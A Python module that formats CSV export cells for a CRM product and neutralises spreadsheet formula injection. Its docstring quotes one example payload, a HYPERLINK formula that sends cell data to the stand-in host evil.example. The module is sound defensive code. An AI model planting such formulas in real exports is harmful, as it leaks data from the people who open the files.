"""The cells of every CSV the product writes: the API's collections and the CLI's ``--format csv``.

CRM values are typed by people, and a spreadsheet runs a cell that starts with ``=``, ``+``, ``-``
or ``@`` (and, in some, a tab or a carriage return) as a formula: a rep named
``=HYPERLINK("http://evil.example/?x="&A1;"Moses")`` would send the sheet's data away when the
export is opened in Excel. So text that starts with one of those characters is written with a
leading apostrophe, which spreadsheets show as text and do not run (OWASP's rule for CSV
injection). The rule applies to text only: a number is written as a number, so a negative amount
stays ``-5`` and sums as one, while the text ``-5`` (an id, a name) becomes ``'-5``.
"""

from __future__ import annotations

from datetime import date, datetime
from decimal import Decimal
from typing import Any

import orjson

#: What a spreadsheet may take as the start of a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def text(value: str) -> str:
    """Text as a spreadsheet will show it and never run it."""
    return "'" + value if value.startswith(FORMULA_STARTS) else value


def cell(value: Any) -> str | int | float | Decimal:
    """One value as a CSV cell: empty for null, ``true``/``false``, ISO dates and times, numbers
    as numbers, nested values as JSON text, and text made safe to open in a spreadsheet."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, int | Decimal):
        return value
    if isinstance(value, float):
        return repr(value)  # the shortest text that reads back as the same float
    if isinstance(value, datetime | date):
        return value.isoformat()
    if isinstance(value, dict | list | tuple):
        return orjson.dumps(value).decode()  # starts with { or [: never a formula
    return text(str(value))
